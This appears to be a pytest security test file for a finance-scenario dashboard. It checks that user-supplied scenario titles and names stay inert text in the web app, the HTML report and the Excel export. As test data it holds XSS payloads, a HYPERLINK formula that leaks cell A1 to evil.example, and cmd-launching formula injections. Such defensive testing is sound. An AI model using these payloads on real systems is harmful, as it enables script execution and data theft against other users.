"""Hostile text in results never runs as script or as a spreadsheet formula.

A scenario title is typed by any what-if user ("Save as scenario"), and ``serve``
computes the new scenario's result on its next start, so titles, descriptions,
organisation and intervention names are attacker-controlled for every other viewer.
"""

from __future__ import annotations

import openpyxl
import pytest
import yaml

from sefton_finance import report
from sefton_finance.api import run_file
from sefton_finance.results import load, save
from tests.e2e.conftest import REPO, SMALL_HORIZON, serving

IMG = '<img src=x onerror="window.__xss=1">'
SCRIPT = "<script>window.__xss=2</script>"
TITLE = f"{IMG} plan"
"""Title of the result ``serve`` computes from a saved scenario."""
DESCRIPTION = f"{SCRIPT} described"
TAMPERED_TITLE = f"{SCRIPT} **not bold** _nor italic_ [a link](javascript:window.__xss=3)"
"""Title of a result whose balance check fails, so it reaches the banner too."""
ORG_LABEL = '<img src=y onerror="window.__xss=4"> Trust'
INTERVENTION = '<svg onload="window.__xss=5">'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet may read as the start of a formula."""
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click for the figures")'


def write_scenario(path, base: str, **fields) -> None:
    """A shipped scenario shortened to the test horizon, with ``fields`` replaced."""
    data = yaml.safe_load((REPO / "scenarios" / f"{base}.yaml").read_text(encoding="utf-8"))
    data["horizon"]["years_ahead"] = SMALL_HORIZON
    data.update(fields)
    path.write_text(yaml.safe_dump(data, sort_keys=False), encoding="utf-8")


@pytest.fixture(scope="module")
def hostile_results(tmp_path_factory):
    """Scenario and result folders holding hostile text: ``(scenarios_dir, results_dir)``.

    ``do_nothing`` is computed here. ``hostile`` is only a scenario file, as "Save
    as scenario" leaves it: ``serve`` computes its result. ``tampered`` is a result with a hostile title, organisation
    and intervention name whose organisations no longer add up to the system.
    """
    root = tmp_path_factory.mktemp("hostile")
    scenarios, results, other = root / "scenarios", root / "results", root / "other"
    for folder in (scenarios, results, other):
        folder.mkdir()
    write_scenario(scenarios / "do_nothing.yaml", "do_nothing")
    save(run_file(scenarios / "do_nothing.yaml"), results / "do_nothing.nc")
    write_scenario(
        scenarios / "hostile.yaml", "place_plan", name="hostile", title=TITLE,
        description=DESCRIPTION,
    )  # fmt: skip
    write_scenario(other / "tampered.yaml", "place_plan", name="tampered", title=TAMPERED_TITLE)
    ds = run_file(other / "tampered.yaml")
    names = ds["org_name"].values.astype(object)
    names[0] = ORG_LABEL
    interventions = ds["intervention"].values.astype(object)
    interventions[0] = INTERVENTION
    ds = ds.assign_coords(org_name=("org", names), intervention=interventions)
    save(ds.assign(system_surplus=ds["system_surplus"] + 1e6), results / "tampered.nc")
    return scenarios, results


@pytest.fixture(scope="module")
def hostile_url(hostile_results, tmp_path_factory):
    scenarios, results = hostile_results
    log = tmp_path_factory.mktemp("hostile_server") / "serve.log"
    options = ("--results", str(results), "--scenarios", str(scenarios), "--no-show")
    with serving(*options, log=log) as (_, root):
        yield f"{root}/app"


def assert_no_script_ran(page) -> None:
    # An <img> error handler fires once the broken image has failed to load: give it time.
    page.wait_for_timeout(1_500)
    assert page.evaluate("() => window.__xss") is None, "hostile text ran as script"


def visible(page, text: str) -> None:
    page.get_by_text(text, exact=False).first.wait_for(state="visible", timeout=30_000)


@pytest.mark.browser
@pytest.mark.slow
def test_hostile_titles_render_as_text_on_every_page(board_page, hostile_url, hostile_results):
    _, results = hostile_results
    page = board_page
    page.goto(hostile_url, timeout=60_000)
    page.locator("table.surplus-table").first.wait_for(timeout=60_000)
    assert (results / "hostile.nc").exists(), "serve computes the saved scenario's result"
    # Compare: chooser, section headings, tables, banner and assumptions.
    chosen = page.locator(".choices__item--selectable").all_inner_texts()
    assert any(TITLE in text for text in chosen), chosen
    assert any(TAMPERED_TITLE in text for text in chosen), chosen
    last = str(load(results / "hostile.nc").year.values[-1])
    for text in (
        f"Bridge from do nothing to {TITLE}, {last}",
        f"Locality view: {TITLE}, {last}",
        f"Bridge from do nothing to {TAMPERED_TITLE}",
        "Balance checks FAILED",
        f"{TAMPERED_TITLE}: organisations sum to the system",
        ORG_LABEL,
    ):
        visible(page, text)
    assert page.locator("table.surplus-table caption", has_text=TITLE).count() == 1
    page.locator("summary", has_text=f"Assumptions: {TITLE}").click()
    visible(page, DESCRIPTION)
    assert_no_script_ran(page)
    # What-if: the base scenario chooser and the headline that names the base.
    page.locator(".bk-tab", has_text="What-if").click()
    page.locator(".whatif-final").wait_for(timeout=60_000)
    choose = page.locator("select").first
    assert TITLE in choose.locator("option").all_inner_texts()
    choose.select_option(label=TITLE)
    page.locator(".whatif-headline", has_text=f"Change against {TITLE}").wait_for(timeout=30_000)
    assert_no_script_ran(page)


@pytest.mark.browser
@pytest.mark.slow
def test_board_pack_keeps_hostile_text_as_text(board_page, hostile_url, hostile_results, tmp_path):
    _, results = hostile_results
    datasets = [load(results / f"{name}.nc") for name in ("do_nothing", "hostile", "tampered")]
    html_path, _ = report.write_pack(datasets, tmp_path / "pack.html")
    page = board_page
    page.goto(html_path.as_uri())
    page.locator("canvas").first.wait_for(timeout=30_000)
    for text in (f"Bridge from do nothing to {TITLE}", f"Locality view: {TITLE}", ORG_LABEL):
        visible(page, text)
    page.locator("summary", has_text=f"Assumptions: {TITLE}").click()
    visible(page, DESCRIPTION)
    assert_no_script_ran(page)


def test_workbook_keeps_formula_like_text_as_text(hostile_results, tmp_path):
    _, results = hostile_results
    hostile = {
        "scenario_title": FORMULA,
        "scenario_description": "+cmd|' /C calc'!A0",
        "scenario_text": "@SUM(1+1)*cmd|' /C calc'!A0",
    }
    datasets = [
        load(results / "do_nothing.nc"),
        load(results / "tampered.nc").assign_attrs(hostile),
    ]
    names = datasets[1]["org_name"].values.astype(object)
    names[1] = "-2+3+cmd|' /C calc'!A0"
    names[2] = "\t=1+1"
    datasets[1] = datasets[1].assign_coords(org_name=("org", names))
    _, xlsx = report.write_pack(datasets, tmp_path / "pack.html")
    workbook = openpyxl.load_workbook(xlsx)
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    formulas = [f"{c.parent.title}!{c.coordinate}" for c in cells if c.data_type == "f"]
    assert not formulas, f"cells that Excel would evaluate: {formulas}"
    texts = [c.value for c in cells if c.data_type == "s"]
    risky = [c for c in cells if c.data_type == "s" and c.value.startswith(FORMULA_STARTS)]
    assert risky and all(c.quotePrefix for c in risky), "Excel keeps them text when edited"
    assert texts.count(FORMULA) >= 10, "the title survives as text wherever it is listed"
    for value in (*hostile.values(), names[1], names[2]):
        assert value in texts
    # Numbers stay numbers.
    quantiles = workbook["system_quantiles_gbp_m"]
    header = [c.value for c in quantiles[1]]
    p50 = [row[header.index("p50")] for row in quantiles.iter_rows(min_row=2)]
    assert p50 and all(c.data_type == "n" and isinstance(c.value, float) for c in p50)
